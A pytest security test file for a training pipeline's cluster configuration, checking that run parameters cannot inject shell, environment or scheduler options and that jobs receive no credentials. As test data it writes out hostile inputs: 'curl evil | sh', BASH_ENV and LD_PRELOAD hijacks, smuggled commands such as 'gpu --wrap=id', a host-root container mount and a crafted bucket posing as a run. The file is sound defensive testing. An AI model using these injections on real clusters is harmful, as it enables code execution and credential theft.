"""Whoever can start a run chooses parameters; only the operator chooses what runs as shell.

Each attack below was once possible from the flow's parameters alone. Jobs get no credentials of
the process that submits them, whatever the executor.
"""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from flows.plan.build import make_plan
from flows.plan.params import (
    ClusterParams,
    DataParams,
    OutputParams,
    ParameterError,
    TokenizerParams,
    TrainingParams,
)
from tasks.cluster.config import ClusterError, load_cluster
from tasks.cluster.jobs import submit, submit_array

ROOT = Path(__file__).resolve().parent.parent
MARKER = "marker-secret-3f9a1c"
CREDENTIALS = {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "PREFECT_API_KEY"}


def environment() -> dict[str, str]:
    """What a job's rank sees (runs inside the job)."""
    return dict(os.environ)


def slurm_saved_environment() -> bytes:
    """What SLURM keeps of the job's environment, read from inside the job (one host, root)."""
    job = os.environ["SLURM_JOB_ID"]
    return b"".join(p.read_bytes() for p in Path("/var/spool/slurmctld").glob(f"hash.*/job.{job}/environment"))


def _check(tmp_path: Path, **cluster: object) -> None:
    make_plan("tiny", DataParams(), TokenizerParams(), TrainingParams(), ClusterParams(**cluster),
          OutputParams(root=str(tmp_path)))


@pytest.mark.parametrize("overrides, named", [
    ({"sbatch_extra": {"export": "ALL,BASH_ENV=/tmp/evil.sh"}}, "'export'"),
    ({"sbatch_extra": {"task-prolog": "/tmp/evil.sh"}}, "'task-prolog'"),
    ({"sbatch_extra": {"chdir": "/"}}, "'chdir'"),
    ({"sbatch_extra": {"output": "/etc/cron.d/x"}}, "'output'"),
    ({"sbatch_extra": {"partition": "gpu --wrap=id"}}, "'partition'"),
    ({"srun_extra": ["--task-prolog=/tmp/evil.sh"]}, "--task-prolog"),
    ({"srun_extra": ["--export=ALL,LD_PRELOAD=/tmp/x.so"]}, "--export"),
    ({"env": {"BASH_ENV": "/tmp/evil.sh"}}, "'BASH_ENV'"),
    ({"env": {"LD_PRELOAD": "/tmp/x.so"}}, "'LD_PRELOAD'"),
    ({"env": {"NCCL_NET_PLUGIN": "/tmp/x.so"}}, "'NCCL_NET_PLUGIN'"),
    ({"env": {"NCCL_DEBUG": "INFO; id"}}, "'NCCL_DEBUG'"),
    ({"setup": ["curl evil | sh"]}, "setup"),
    ({"container": {"runtime": "pyxis", "image": "attacker/image", "mounts": ["/:/host"]}}, "container"),
])
def test_scheduler_options_from_parameters_pass_an_allowlist(tmp_path: Path, overrides: dict, named: str) -> None:
    with pytest.raises(ParameterError) as e:
        _check(tmp_path, preset="slurm-local", overrides=overrides)
    assert "cluster:" in str(e.value) and named in str(e.value)


def test_paths_of_the_run_are_not_parameters(tmp_path: Path) -> None:
    with pytest.raises(ParameterError) as e:
        make_plan("tiny", DataParams(), TokenizerParams(), TrainingParams(overrides={"run_dir": "/etc", "compile_cache_dir": "/"}),
              ClusterParams(), OutputParams(root=str(tmp_path)))
    assert "training.overrides.run_dir: decided by the flow" in str(e.value)
    assert "training.overrides.compile_cache_dir: decided by the flow" in str(e.value)


def test_allowed_tuning_from_parameters_reaches_the_script(tmp_path: Path) -> None:
    cluster = load_cluster("slurm-local", sbatch_extra={"mail-type": "END", "qos": "high"},
                           srun_extra=["--cpu-bind=cores"], env={"NCCL_DEBUG": "INFO"})
    script = cluster.sbatch_script(tmp_path / "jobs")
    assert "#SBATCH --mail-type=END" in script and "#SBATCH --qos=high" in script
    assert "--cpu-bind=cores" in script and "export NCCL_DEBUG=INFO" in script
    assert "export GLOO_SOCKET_IFNAME=lo" in script            # the preset's own env is kept


def test_the_bash_env_attack_from_the_command_line_is_refused(tmp_path: Path) -> None:
    evil = tmp_path / "evil.sh"
    evil.write_text(f"touch {tmp_path / 'pwned'}\n")
    out = subprocess.run([sys.executable, "-m", "flows.pretrain", "--cluster", "slurm-local", "--root", str(tmp_path),
                          "--cluster-set", f'sbatch_extra={{"export": "ALL,BASH_ENV={evil}"}}'],
                         cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert out.returncode == 2, out.stdout + out.stderr
    assert "sbatch_extra option 'export' cannot be set from parameters" in out.stderr
    assert not (tmp_path / "pwned").exists() and not list(tmp_path.glob("*/jobs"))


def test_presets_load_only_from_the_operators_folders(tmp_path: Path, monkeypatch) -> None:
    # Where sync would put a file planted in a bucket: under the run root.
    planted = tmp_path / "data" / "raw" / "0123" / "evil.yaml"
    planted.parent.mkdir(parents=True)
    planted.write_text("executor: local\nsetup: ['touch /tmp/pwned']\n")
    for preset in (str(planted), "data/raw/0123/evil.yaml", "../../etc/passwd", "evil"):
        with pytest.raises(ParameterError, match="cluster: .*(not in a presets folder|unknown cluster preset)"):
            _check(tmp_path, preset=preset)
    monkeypatch.setenv("GPT_CLUSTER_PRESET_DIRS", str(planted.parent))   # the operator's choice
    assert load_cluster(str(planted)).setup == ["touch /tmp/pwned"]
    assert load_cluster("evil").setup == ["touch /tmp/pwned"]
    monkeypatch.delenv("GPT_CLUSTER_PRESET_DIRS")
    with pytest.raises(ClusterError):
        load_cluster("evil")


def _with_marker_credentials(monkeypatch) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "marker-key-id")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", MARKER)
    monkeypatch.setenv("AWS_SESSION_TOKEN", MARKER + "-session")
    monkeypatch.setenv("PREFECT_API_KEY", MARKER + "-prefect")


def test_local_jobs_get_no_credentials(tmp_path: Path, monkeypatch) -> None:
    _with_marker_credentials(monkeypatch)
    env, _, _ = submit(environment, load_cluster("local"), run_dir=tmp_path, job_name="env")
    assert env["SUBMITIT_EXECUTOR"] == "local"
    assert not [k for k, v in env.items() if MARKER in v or k in CREDENTIALS]


@pytest.mark.slurm
def test_slurm_jobs_and_slurms_records_get_no_credentials(slurm_cluster: dict, tmp_path: Path, monkeypatch) -> None:
    _with_marker_credentials(monkeypatch)
    cluster = load_cluster(slurm_cluster["preset"], nodes=1)
    env, job_id, _ = submit(environment, cluster, run_dir=tmp_path, job_name="env")
    assert env["SLURM_JOB_ID"] == job_id and env["SUBMITIT_EXECUTOR"] == "slurm"
    assert not [k for k, v in env.items() if MARKER in v or k in CREDENTIALS]
    saved, _, _ = submit(slurm_saved_environment, cluster, run_dir=tmp_path, job_name="env")
    assert b"SLURM_" in saved or b"PATH=" in saved     # the file was found and read
    assert MARKER.encode() not in saved
    leaks = [str(f) for f in tmp_path.rglob("*") if f.is_file() and MARKER.encode() in f.read_bytes()]
    assert leaks == []


@pytest.mark.slurm
def test_the_tasks_of_a_job_array_get_no_credentials(slurm_cluster: dict, tmp_path: Path, monkeypatch) -> None:
    _with_marker_credentials(monkeypatch)
    envs = submit_array([environment, environment], load_cluster(slurm_cluster["preset"]).data_job(),
                        run_dir=tmp_path, job_name="env")
    assert [env["SLURM_ARRAY_TASK_ID"] for env in envs] == ["0", "1"]
    assert not [k for env in envs for k, v in env.items() if MARKER in v or k in CREDENTIALS]
    leaks = [str(f) for f in tmp_path.rglob("*") if f.is_file() and MARKER.encode() in f.read_bytes()]
    assert leaks == []


# What each operator-only field could have been set to by a run, had the form reached it.
FORM_ATTEMPTS = {"name": "p5", "executor": "local", "device": "cuda", "accelerator": "h200", "device_memory_gib": 100000,
                 "setup": ["touch /tmp/pwned"], "container": {"runtime": "pyxis", "image": "evil"},
                 "price_per_node_hour": 0.01, "currency": "EUR", "quarantine": "/tmp/nobody.json",
                 "burn_in_checks": ["touch /tmp/pwned"]}


def test_what_the_devices_are_what_runs_on_the_nodes_and_a_node_hours_price_are_the_operators_alone(tmp_path):
    """Through the form and the command line alike, every cluster field the operator alone sets is
    refused by name; the memory check and the estimate are the preset's whatever the run says; the
    plan says which cluster fields the run set."""
    from flows.plan.artifact import plan_rows
    from tasks.cluster.config import FORM_FIELDS, ClusterConfig

    assert set(FORM_ATTEMPTS) == set(ClusterConfig.model_fields) - FORM_FIELDS
    for field, value in FORM_ATTEMPTS.items():
        with pytest.raises(ParameterError, match=f"cluster: .*{field} is set only by the operator, in preset files"):
            _check(tmp_path, preset="p4d-8gpu", overrides={field: value})
    out = subprocess.run([sys.executable, "-m", "flows.pretrain", "--model", "gpt3-1.3b", "--cluster", "p4d-8gpu",
                          "--cluster-set", "accelerator=h200", "--root", str(tmp_path), "--budget-cost", "5",
                          "--dry-run"], cwd=ROOT, capture_output=True, text=True, timeout=120,
                         env={**os.environ, "GPT_OUTPUT_ROOTS": str(tmp_path)})
    assert out.returncode == 2 and "accelerator is set only by the operator" in out.stderr, out.stderr
    assert "Traceback" not in out.stdout + out.stderr
    plan = make_plan("tiny", DataParams(), TokenizerParams(), TrainingParams(), ClusterParams(
        preset="p4d-8gpu", overrides={"nodes": 1, "tasks_per_node": 1, "gpus_per_node": 1, "partition": "gpu"}),
        OutputParams(root=str(tmp_path)))
    assert {r["item"]: r["value"] for r in plan_rows(plan, "a new run")}["cluster"].endswith(
        "; the run set gpus_per_node=1, nodes=1, partition=gpu, tasks_per_node=1, the rest is the operator's preset")


def test_a_run_folder_a_bucket_holds_is_never_evaluated_and_no_job_runs_its_setup(tmp_path, s3_server, monkeypatch,
                                                                                   prefect_harness):
    """A bucket crafted to look like a run (config, identity, an evaluation spec naming a setup line,
    a complete checkpoint), synced under the output root: the evaluate flow refuses the folder in one
    line, and nothing runs. A spec whose job cluster names what only the operator sets is refused too."""
    import json

    from flows.evaluate import evaluate
    from gpt.config import Config
    from tasks.evaluate.records import EvaluationSpec, JobCluster
    from tasks.sync import sync

    pwned = tmp_path / "pwned"
    spec = {"sets": {}, "set_tokens": 1, "tasks": ["arc_easy"], "task_paths": [], "limit": None, "every": 1,
            "tokenizer": {}, "cluster": {"preset": "local", "overrides": {"setup": [f"touch {pwned}"]}}}
    bucket = s3_server.new_bucket()
    s3_server.put_tree(bucket, "", {
        "evil/config.json": json.dumps(Config(model="tiny", mock_data=True).to_dict()).encode(),
        "evil/run.json": b'{"identity": {}}', "evil/evaluation.json": json.dumps(spec).encode(),
        "evil/checkpoints/iter_0000001/COMPLETE": b"{}"})
    for name, value in s3_server.env.items():
        if name.startswith("AWS_"):
            monkeypatch.setenv(name, value)
    monkeypatch.setenv("GPT_OUTPUT_ROOTS", str(tmp_path))
    raw = tmp_path / "root" / "data" / "raw" / "0123"
    sync([f"s3://{bucket}/"], str(raw), endpoint_url=s3_server.endpoint_url)
    with pytest.raises(ParameterError) as e:
        evaluate(str(raw / "evil"))
    assert e.value.errors == [f"run: {raw / 'evil'} lies in {raw}, which the sync wrote from a source: data is never "
                              "a run; give the run folder the pretrain flow made (output.root/<run name>)"]
    assert not pwned.exists()
    with pytest.raises(ClusterError, match="setup is set only by the operator"):
        JobCluster(preset="local", overrides={"setup": [f"touch {pwned}"]}).resolved()
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "evaluation.json").write_text(json.dumps({**spec, "cluster": {
        "preset": "local", "setup": [f"touch {pwned}"]}}))
    with pytest.raises(ParameterError, match=r"evaluation.json: cluster.setup: extra inputs are not permitted "
                                             r"\(it holds \["):
        EvaluationSpec.read(tmp_path / "run")
    assert not pwned.exists()
